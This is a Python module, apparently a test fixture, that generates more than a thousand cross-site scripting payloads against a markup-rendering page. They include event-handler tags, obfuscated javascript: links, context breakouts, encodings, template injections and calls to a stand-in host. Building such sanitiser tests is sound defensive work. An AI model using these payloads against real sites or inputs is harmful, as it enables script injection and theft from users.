"""More than a thousand texts that are scripts to a page that takes text for markup, made by rule.

Each is a product of a few short lists: what runs, how it is called, where it stands, how it is written. If it runs, it
calls `pwned(NUMBER)` or `alert(NUMBER)`, or asks `https://forbidden.invalid/NUMBER`.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import product
from urllib.parse import quote

FORBIDDEN = "https://forbidden.invalid/"
EVERY_DIALOG = 50
"""Of so many payloads one opens a dialog."""


@dataclass(frozen=True, slots=True)
class Payload:
    """`text` is what a document holds, `careless` the markup that a page makes of it which decodes it and escapes
    nothing: where `text` breaks out of something, that stands around it."""

    number: int
    text: str
    careless: str


@dataclass(frozen=True, slots=True)
class _Shape:
    """A payload without its number; CALL stands for what is called, NUMBER for the number."""

    text: str
    careless: str


_CORE = (
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<script>CALL</script>",
    "<iframe onload=CALL></iframe>",
    "<details open ontoggle=CALL>x</details>",
    "<b onclick=CALL>x</b>",
    '<a href="javascript:CALL">x</a>',
    "<input autofocus onfocus=CALL>",
)
_LOADING = (
    *("<svg><image href=x onerror=CALL>", "<video src=x onerror=CALL></video>", "<audio src=x onerror=CALL></audio>"),
    *("<video><source src=x onerror=CALL></video>", "<object data=x: onerror=CALL></object>", "<body onload=CALL>"),
    *("<style onload=CALL></style>", "<link rel=stylesheet href=x: onerror=CALL>", "<body onpageshow=CALL>"),
    *("<input type=image src=x onerror=CALL>", "<select autofocus onfocus=CALL></select>", "<frameset onload=CALL>"),
    *("<textarea autofocus onfocus=CALL></textarea>", "<button autofocus onfocus=CALL>x</button>"),
    *("<a tabindex=0 autofocus onfocus=CALL>x</a>", "<marquee onstart=CALL>x</marquee>", "<embed src=x: onload=CALL>"),
    *("<svg><animate attributeName=x dur=1s onbegin=CALL>", "<svg><set attributeName=x onbegin=CALL>"),
    *("<script src=data:,CALL></script>", "<script type=module>CALL</script>", "<svg><script>CALL</script></svg>"),
    *("<svg><script href=data:,CALL></script></svg>", '<script async src="data:text/javascript,CALL"></script>'),
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.CALL&gt;"></iframe>',
    "<iframe srcdoc='<svg onload=parent.CALL>'></iframe>",
    '<iframe src="data:text/html,<script>CALL</script>"></iframe>',
    '<object data="data:text/html,<script>CALL</script>"></object>',
    '<embed src="data:text/html,<script>CALL</script>">',
    "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>\"></object>",
    *("<template><img src=x onerror=CALL></template>", "<noscript><img src=x onerror=CALL></noscript>"),
    *('<meta http-equiv=refresh content="0;url=javascript:CALL">', "<img src=javascript:CALL>"),
    *("<img dynsrc=javascript:CALL>", "<link rel=import href=data:,CALL>", "<isindex action=javascript:CALL>"),
    *("<xml onreadystatechange=CALL>", '<b style="x:expression(CALL)">x</b>', '<b style="color:url(javascript:CALL)">'),
)
_ASKING = (
    *("<img src=AT>", "<img srcset=AT>", "<script src=AT></script>", "<iframe src=AT></iframe>", "<embed src=AT>"),
    *("<link rel=stylesheet href=AT>", "<object data=AT>"),
    *("<video poster=AT></video>", "<audio src=AT></audio>", "<svg><image href=AT>", "<svg><feImage href=AT>"),
    *('<style>@import"AT"</style>', "<body background=AT>", "<table background=AT><td>x</table>"),
    *('<b style="background:url(AT)">x</b>', '<ul style="list-style:url(AT)"><li>x</ul>', "<input type=image src=AT>"),
    *("<style>*{cursor:url(AT),auto}</style>", '<meta http-equiv=refresh content="0;url=AT">'),
)
_EVENTS = """abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
beforetoggle blur cancel canplay canplaythrough change click close contextmenu copy cuechange cut dblclick drag
dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus formdata fullscreenchange
gotpointercapture input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture
mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause play playing pointercancel
pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerup progress ratechange reset resize
scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled
submit suspend timeupdate toggle touchstart transitioncancel transitionend transitionrun transitionstart volumechange
waiting wheel""".split()
_ELEMENTS = ("b", "svg", "x-y")
_ADDRESSES = (
    *("javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "jav\nascript:CALL", "java&Tab;script&colon;CALL"),
    *("&#106;avascript:CALL", "java&#x0A;script:CALL", "&#1;javascript:CALL", "\u0001javascript:CALL"),
    *(" javascript:CALL", "javascript&#58;CALL", "javascript:%76oid CALL", "javascript:/*x*/CALL"),
    *("javascript://%0aCALL", "vbscript:CALL", "data:text/html,<script>CALL</script>"),
)
_HOLDERS = (
    *('<a href="AT">x</a>', '<svg><a xlink:href="AT"><text>x</text></a></svg>', '<map><area href="AT"></map>'),
    *('<form action="AT"><button>x</button></form>', '<form><button formaction="AT">x</button></form>'),
    *('<form><input type=submit formaction="AT"></form>', '<iframe src="AT"></iframe>'),
)
_SLOTS = (
    *(('">', '<input value="', '">'), ("'>", "<input value='", "'>"), (" x>", "<input value=", ">")),
    *(("-->", "<!-- ", " -->"), ("--!>", "<!-- ", " -->"), ("]]>", "<svg><![CDATA[", "]]></svg>")),
    ('"></select>', '<select><option value="', '"></select>'),
    *((f"</{name}>", f"<{name}>", f"</{name}>") for name in "title textarea style script noscript xmp iframe".split()),
    *((f"</{name}>", f"<{name}>", f"</{name}>") for name in "noembed noframes template select svg math".split()),
)
"""What ends the place where a text stands, and what that begins and ends with."""
_QUOTES = ('"', "'", "")
_ATTRIBUTES = (
    *("onclick=CALL", "onmouseover=CALL", "onpointerenter=CALL", "autofocus onfocus=CALL", "ONCLICK=CALL"),
    *("onanimationstart=CALL", "onkeydown=CALL", "oncopy=CALL", "onwheel=CALL", "onbeforeinput=CALL"),
    *("type=image src=x onerror=CALL", "style=background:url(https://forbidden.invalid/NUMBER)"),
)
_RAW = ("style", "xmp", "title", "noscript", "iframe", "textarea", "noembed", "noframes")
_ROOTS = (
    *("<math><mtext>", "<svg><desc>", "<svg><title>", "<svg><foreignObject>", "<table><caption>", "<svg></p>"),
    *(
        '<math><annotation-xml encoding="text/html">',
        "<math><mtext><table><mglyph>",
        "<form><math><mtext></form><form>",
    ),
)
_CALLS = (
    *("pwned`NUMBER`", "(0,pwned)(NUMBER)", "pwned.call(0,NUMBER)", "[NUMBER].map(pwned)", "window['pwned'](NUMBER)"),
    *("self[`pw`+`ned`](NUMBER)", "eval('pwned(NUMBER)')", "Function(`pwned(NUMBER)`)()", "p\\u0077ned(NUMBER)"),
    *("setTimeout`pwned\\x28NUMBER\\x29`", "queueMicrotask(()=>pwned(NUMBER))", "new(class{x=pwned(NUMBER)})"),
    *("fetch('https://forbidden.invalid/NUMBER')", "new(Image)().src='https://forbidden.invalid/NUMBER'"),
    *("top.fetch('https://forbidden.invalid/NUMBER')", "import('https://forbidden.invalid/NUMBER')"),
)
_CALLING = ('<img src=x onerror="CALL">', '<svg onload="CALL">', "<script>CALL</script>", '<b onclick="CALL">x</b>')
_WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda tag: tag.replace("=x ", '="x" ').replace(" ", "/"),
    lambda tag: tag.replace(" ", "\t"),
    lambda tag: tag.replace(" ", "\n"),
    lambda tag: tag.replace(" ", " \t/ "),
    lambda tag: tag.replace("=", " = "),
    lambda tag: tag.replace("=CALL", "='CALL'"),
    lambda tag: tag.replace("=CALL", "=CALL//"),
    lambda tag: tag.replace("=CALL", "=&#x20;CALL"),
    lambda tag: f"<{tag}",
    lambda tag: f"{tag[:-1]} x=<b>",
    lambda tag: f"<x {tag}",
    lambda tag: f"<!x>{tag}",
    lambda tag: f"<?x?>{tag}",
    lambda tag: "".join(char.upper() if at % 2 else char for at, char in enumerate(tag)),
)
_WRITTEN = ("<img src=x onerror=CALL>", "<svg onload=CALL>", "<video src=x onerror=CALL>", "<iframe src=x onload=CALL>")


def _named(markup: str) -> str:
    return escape(markup).replace("=", "&equals;").replace("(", "&lpar;").replace(")", "&rpar;")


def _numbered(markup: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in markup)


def _wide(markup: str) -> str:
    """What compatibility normalisation folds back."""
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in markup)


_ENCODINGS: tuple[Callable[[str], str], ...] = (
    _named,
    lambda markup: _numbered(markup, "&#{};"),
    lambda markup: _numbered(markup, "&#x{:x};"),
    lambda markup: _numbered(markup, "&#{:07}"),
    lambda markup: escape(escape(markup)),
    lambda markup: quote(markup, safe=""),
    lambda markup: quote(quote(markup, safe=""), safe=""),
    lambda markup: _numbered(markup, "\\u{:04x}"),
    lambda markup: _numbered(markup, "\\x{:02x}"),
    lambda markup: _numbered(markup, "\\{:06x}"),
    _wide,
    lambda markup: markup.replace("<", "<\0").replace("on", "o\0n"),
    lambda markup: markup.replace("s", "s\u200b").replace("on", "o\u00adn"),
    lambda markup: f"\u202e{markup}\u2066",
    lambda markup: markup.replace("<", "\ufeff<\u2028"),
    lambda markup: base64.b64encode(markup.encode()).decode(),
    json.dumps,
)
_OLD_ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda markup: markup.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-"),
    lambda markup: markup.replace("<", "\u00bc").replace(">", "\u00be"),
    lambda markup: f"\u001b$B{markup}\u001b(B",
)
"""Markup to browsers of long ago."""
_TOLD = "<script>var told = {0}%s{0}</script>"
_RETURNED = "<script>function told() {{ return [{0}%s{0}] }}</script>"
_ESCAPED = "<script>var told = {0}\\%s{0}</script>"
_STYLED = "<style>p { color: %s }</style><p>x</p>"
_SCRIPTS = (
    *((text, _TOLD.format('"')) for text in ('";CALL//', '"-CALL-"', '"+[CALL]+"', "</script><svg onload=CALL>")),
    *(
        (text, _TOLD.format("'"))
        for text in ("';CALL//", "'-CALL-'", "'+[CALL]+'", "</script ><img src=x onerror=CALL>")
    ),
    *((text, _TOLD.format("`")) for text in ("${CALL}", "`;CALL//", "${`${CALL}`}", "x${(()=>CALL)()}", "`+CALL+`")),
    *((f"{mark}]}};CALL;{{[{mark}", _RETURNED.format(mark)) for mark in "\"'`"),
    *((f"\\{mark};CALL//", _ESCAPED.format(mark)) for mark in "\"'`"),
    *(("*/CALL/*", "<script>/* %s */</script>"), ("\u2028CALL//", "<script>// %s</script>")),
    *(("\nCALL//", "<script>// %s</script>"), ("]]>\nCALL//", "<script>//<![CDATA[ %s</script>")),
    *(("x/.x;CALL;/x", "<script>var told = /%s/</script>"), ("CALL", "<script>var told = [%s]</script>")),
    *((text, "<script>var told = {%s: 1}</script>") for text in ("[CALL]", "x:CALL,y")),
    *((text, "<b onclick=\"void('%s')\">x</b>") for text in ("'-CALL-'", "&#39;-CALL-&#39;", "&apos;+CALL+&apos;")),
    *((text, "<a href=\"javascript:void('%s')\">x</a>") for text in ("'+CALL+'", "%27-CALL-%27", "&#39;*CALL-'")),
    *((text, '<b style="color:%s">x</b>') for text in ("red;background:url(AT)", 'red"onclick="CALL')),
    *(
        (text, _STYLED)
        for text in ("red}*{background:url('AT')", "red;background:url(AT);", "</style><svg onload=CALL>")
    ),
    *((text, "<style>%s</style>") for text in ("@import url(AT);", "@import'AT';", "<!--@import'AT'")),
)
"""Texts, each with the script or style that it breaks out of."""
_UNRENDERED = (
    *("{{CALL}}", "{{constructor.constructor('CALL')()}}", "<%= CALL %>", "#{CALL}", "[[CALL]]", "{%CALL%}"),
    *(
        "{{$on.constructor('CALL')()}}",
        "<x v-on:load='CALL'>",
        "<x ng-init=CALL>",
        "<x @click=CALL>",
        "<x x-init=CALL>",
    ),
)
"""Markup to libraries that this page does not have."""
_LINKS = (
    *(("[x](%s)", '<a href="%s">x</a>'), ("[x](<%s>)", '<a href="%s">x</a>'), ("<%s>", '<a href="%s">x</a>')),
    *(
        ('[x](%s "x")', '<a href="%s" title="x">x</a>'),
        ("[x]: %s", '<a href="%s">x</a>'),
        ("x](%s)", '<a href="%s">x</a>'),
    ),
    *(
        ("![x](%s)", '<iframe src="%s"></iframe>'),
        ("> # [*x*](%s)", '<a href="%s">x</a>'),
        ("`x` %s", '<a href="%s">x</a>'),
    ),
)
"""Links of Markdown, each as it is rendered."""
_ATTRIBUTE_LISTS = (
    *(
        'x {: onclick="CALL"}',
        "{: onclick=CALL } x",
        "x { onclick=CALL }",
        'x {#x .y onclick="CALL"}',
        "x{:onclick='CALL'}",
    ),
)
"""Attributes as some renderers of Markdown know them."""
_KEYS = (
    *("__proto__[x]=%s", "constructor[prototype][x]=%s", '{"__proto__": {"innerHTML": "%s"}}', "toString=%s"),
    *('{"constructor": {"prototype": {"srcdoc": "%s"}}}', "hasOwnProperty %s", "__proto__ %s", "valueOf?name=%s"),
)


def _shapes() -> Iterator[_Shape]:
    """All of them; some come twice."""
    plain = [
        *(*_CORE, *_LOADING),
        *(markup.replace("AT", f"{FORBIDDEN}NUMBER") for markup in _ASKING),
        *(f"<{element} on{event}=CALL>x</{element}>" for element, event in product(_ELEMENTS, _EVENTS)),
        *(holder.replace("AT", address) for holder, address in product(_HOLDERS, _ADDRESSES)),
        *(
            f'{root}<{raw}><a title="</{raw}><img src=x onerror=CALL>"></a></{raw}>'
            for root, raw in product(_ROOTS, _RAW)
        ),
        *(markup.replace("CALL", call) for markup, call in product(_CALLING, _CALLS)),
        *(write(tag) for write, tag in product(_WRITINGS, _WRITTEN)),
        *(key % markup for key, markup in product(_KEYS, _CORE)),
        *_UNRENDERED,
        *(encode(markup) for encode, markup in product(_OLD_ENCODINGS, _CORE)),
    ]
    for markup in plain:
        yield _Shape(markup, markup)
    for (end, before, after), markup in product(_SLOTS, _CORE):
        yield _Shape(f"{end}{markup}", f"{before}{end}{markup}{after}")
    for mark, attribute in product(_QUOTES, _ATTRIBUTES):
        text = f"x{mark} {attribute} {mark}"
        yield _Shape(text, f"<input value={mark}{text}{mark}>")
    for text, around in _SCRIPTS:
        asked = text.replace("AT", f"{FORBIDDEN}NUMBER")
        yield _Shape(asked, around % asked)
    for text in _ATTRIBUTE_LISTS:
        yield _Shape(text, "<b onclick=CALL>x</b>")
    for (written, rendered), address in product(_LINKS, _ADDRESSES):
        yield _Shape(written % address, rendered % address)


def _made() -> Iterator[Payload]:
    """Payloads in a fixed order; what encodes anything encodes the number, too."""
    shapes = list(dict.fromkeys(_shapes()))
    encoded = [(encode, markup) for encode, markup in product(_ENCODINGS, _CORE)]
    for number, shape in enumerate(shapes):
        yield Payload(number, _filled(shape.text, number), _filled(shape.careless, number))
    for number, (encode, markup) in enumerate(encoded, start=len(shapes)):
        filled = _filled(markup, number)
        yield Payload(number, encode(filled), filled)


def _filled(text: str, number: int) -> str:
    call = "alert(NUMBER)" if number % EVERY_DIALOG == 0 else "pwned(NUMBER)"
    return text.replace("CALL", call).replace("NUMBER", str(number))


PAYLOADS = tuple(_made())
